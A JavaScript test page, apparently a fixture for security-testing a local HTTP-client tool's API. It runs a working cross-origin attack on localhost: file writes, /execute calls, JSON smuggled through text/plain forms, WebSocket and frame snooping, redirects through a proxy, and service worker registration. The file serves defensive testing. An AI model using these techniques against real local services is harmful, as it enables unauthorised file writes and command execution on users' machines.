// Tries everything that a page can send to the API named by ?api=, and lists in `gains` whatever it got out of it.
// What it could write or start without seeing an answer is for the test to look at.
const { port } = new URL(new URL(location.href).searchParams.get('api'));
const hosts = [`127.0.0.1:${port}`, `localhost:${port}`];
const gains = [];
const PATIENCE_MS = 5000;

let count = 0;
const newFile = () => {
  count += 1;
  return JSON.stringify({ path: `owned-${location.port}-${count}.http`, content: 'GET http://127.0.0.1:9/' });
};
const RUN = JSON.stringify({ file: 'run.http' });
const TYPES = [undefined, '', 'text/plain', 'application/x-www-form-urlencoded', 'application/json'];
const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'];
const PATHS = ['/workspace', '/files/raw/run.http', '/files/run.http', '/config', '/history', '/health'];
const STOPS = ['/mock/stop', '/record/stop', '/record/export', '/stress/stop'];

function blobOf(text, type) {
  return new Blob([text], type === undefined ? {} : { type });
}

/** An opaque response says nothing; any other one is a gain. */
async function tryFetch(url, options) {
  const response = await fetch(url, options);
  if (response.type !== 'opaque') gains.push(`${options.method} ${url} read: ${response.status}`);
}

function bodies(api) {
  return TYPES.flatMap((type) =>
    ['no-cors', 'cors'].flatMap((mode) => [
      tryFetch(`${api}/files`, { method: 'POST', mode, body: blobOf(newFile(), type) }),
      tryFetch(`${api}/execute`, { method: 'POST', mode, body: blobOf(RUN, type), keepalive: true }),
      tryFetch(`${api}/execute`, {
        method: 'POST',
        mode,
        body: blobOf(RUN, type),
        credentials: 'include',
        referrerPolicy: 'no-referrer',
      }),
    ]),
  );
}

function methods(api) {
  const read = PATHS.flatMap((path) =>
    METHODS.map((method) => tryFetch(api + path, { method, mode: 'cors', credentials: 'include' })),
  );
  const text = { method: 'PUT', body: 'owned', headers: { 'Content-Type': 'text/plain' } };
  const stops = STOPS.map((path) => tryFetch(api + path, { method: 'POST', mode: 'no-cors' }));
  return [...read, ...stops, tryFetch(`${api}/files/run.http`, text)];
}

function oldRequest(method, url, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.addEventListener('load', () => {
      gains.push(`XMLHttpRequest ${method} ${url} read: ${request.status}`);
    });
    request.addEventListener('loadend', resolve);
    request.send(body);
  });
}

function beacons(api) {
  for (const type of TYPES) navigator.sendBeacon(`${api}/execute`, blobOf(RUN, type));
  navigator.sendBeacon(`${api}/files`, newFile());
  return [];
}

function events(host) {
  const source = new EventSource(`http://${host}/api/v1/workspace`);
  return [
    new Promise((resolve) => {
      source.addEventListener('open', () => gains.push(`EventSource ${host} opened`));
      source.addEventListener('error', () => {
        source.close();
        resolve();
      });
    }),
    listen(host),
  ];
}

/** Stays open, so that whatever happens later is heard. */
function listen(host) {
  return new Promise((resolve) => {
    const socket = new WebSocket(`ws://${host}/api/v1/ws`);
    socket.addEventListener('open', () => {
      gains.push(`WebSocket ${host} opened`);
      resolve();
    });
    socket.addEventListener('message', ({ data }) => gains.push(`WebSocket ${host} heard ${data}`));
    socket.addEventListener('close', resolve);
  });
}

function frame(attributes) {
  const element = Object.assign(document.createElement('iframe'), attributes);
  const loaded = new Promise((resolve) => {
    element.addEventListener('load', resolve);
  });
  document.body.append(element);
  return { element, loaded };
}

async function postForm(url, enctype, fields, referrerPolicy) {
  count += 1;
  const name = `frame-${count}`;
  const { element, loaded } = frame({ name });
  await loaded;
  const answered = new Promise((resolve) => {
    element.addEventListener('load', resolve);
  });
  const form = document.createElement('form');
  Object.assign(form, { action: url, method: 'POST', enctype, target: name, referrerPolicy });
  for (const [key, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement('input'), { name: key, value }));
  }
  document.body.append(form);
  form.submit();
  await answered;
}

/** With text/plain, name and value of a field make JSON around the equals sign. */
function forms(api) {
  const file = newFile().replace(/"\}$/, '');
  return ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].flatMap((enctype) =>
    ['', 'no-referrer'].flatMap((policy) => [
      postForm(`${api}/files`, enctype, { [file]: '"}' }, policy),
      postForm(`${api}/execute`, enctype, { '{"file":"run.http","x":"': '"}' }, policy),
      ...STOPS.map((path) => postForm(api + path, enctype, {}, policy)),
    ]),
  );
}

async function showInFrame(url) {
  const { element, loaded } = frame({ src: url });
  await loaded;
  const shown = element.contentDocument?.body.innerText;
  if (shown !== undefined && shown !== '') gains.push(`frame of ${url} read: ${shown}`);
}

function embed(tag, attributes) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.addEventListener('load', () => {
      gains.push(`${tag} ${JSON.stringify(attributes)} loaded`);
      resolve();
    });
    element.addEventListener('error', resolve);
    document.head.append(element);
  });
}

function embedded(host) {
  const api = `http://${host}/api/v1`;
  return [
    showInFrame(`http://${host}/`),
    showInFrame(`${api}/workspace`),
    embed('script', { src: `${api}/workspace` }),
    embed('script', { src: `${api}/openapi.json`, type: 'module' }),
    embed('img', { src: `http://${host}/icon.svg` }),
    embed('img', { src: `${api}/workspace` }),
    embed('link', { rel: 'stylesheet', href: `${api}/files/raw/run.http` }),
  ];
}

/** A frame without an origin, and a thread: both speak for themselves. */
function elsewhere(host) {
  const api = `http://${host}/api/v1`;
  const script = `
    for (const type of ['', 'text/plain']) {
      fetch('${api}/execute', { method: 'POST', mode: 'no-cors', body: new Blob(['${RUN}'], { type }) });
    }
    const socket = new WebSocket('ws://${host}/api/v1/ws');
    socket.onopen = () => report('WebSocket opened');
    socket.onclose = () => report('');`;
  const { element } = frame({ sandbox: 'allow-scripts', srcdoc: `<script>${framed(script)}</scr` + 'ipt>' });
  const worker = new Worker(URL.createObjectURL(new Blob([threaded(script)])));
  return [
    answered(window, 'frame without origin', ({ source }) => source === element.contentWindow),
    answered(worker, 'worker', () => true),
  ];
}

const framed = (script) => `const report = (text) => parent.postMessage(text, '*');${script}`;
const threaded = (script) => `const report = (text) => postMessage(text);${script}`;

function answered(channel, name, isFrom) {
  return new Promise((resolve) => {
    channel.addEventListener('message', (message) => {
      if (!isFrom(message)) return;
      if (message.data !== '') gains.push(`${name}: ${message.data}`);
      resolve();
    });
  });
}

/** Opened by script; what is shown there must stay out of reach. */
async function openWindows(host) {
  const opened = [`http://${host}/`, `http://${host}/#token=guess`, `http://${host}/api/v1/workspace`].map(
    (url) => [url, window.open(url)],
  );
  for (const [url, other] of opened) {
    await untilNavigated(other);
    try {
      if (other !== null) gains.push(`window of ${url} read: ${other.document.body.innerText}`);
    } catch {
      // Of another origin, as it should be.
    }
    other?.close();
  }
}

async function untilNavigated(other) {
  for (let tries = 0; tries < 100; tries += 1) {
    try {
      if (other === null || other.location.href !== 'about:blank') return;
    } catch {
      return;
    }
    await new Promise((resolve) => {
      setTimeout(resolve, 20);
    });
  }
}

/** The target of a proxy can send the browser on, with method and body. */
function redirects(api) {
  const url = `/redirect?to=${encodeURIComponent(`${api}/execute`)}`;
  return ['no-cors', 'cors'].flatMap((mode) =>
    [undefined, 'text/plain'].map(async (type) => {
      const response = await fetch(url, { method: 'POST', mode, body: blobOf(RUN, type) });
      if (response.redirected && response.type !== 'opaque') gains.push(`redirect to ${api} read`);
    }),
  );
}

async function keepAddress() {
  const registration = await navigator.serviceWorker.register('/worker.js');
  gains.push(`service worker for ${registration.scope}`);
}

async function attack() {
  const attempts = hosts.flatMap((host) => {
    const api = `http://${host}/api/v1`;
    return [
      ...bodies(api),
      ...methods(api),
      ...beacons(api),
      ...events(host),
      ...forms(api),
      ...embedded(host),
      ...elsewhere(host),
      ...redirects(api),
      oldRequest('POST', `${api}/files`, blobOf(newFile())),
      oldRequest('POST', `${api}/execute`, RUN),
      oldRequest('GET', `${api}/workspace`),
      openWindows(host),
      import(`${api}/openapi.json`).then(() => gains.push('module loaded')),
    ];
  });
  const patience = new Promise((resolve) => {
    setTimeout(resolve, PATIENCE_MS);
  });
  await Promise.race([Promise.allSettled([...attempts, keepAddress()]), patience]);
}

window.attacked = attack().then(() => gains);
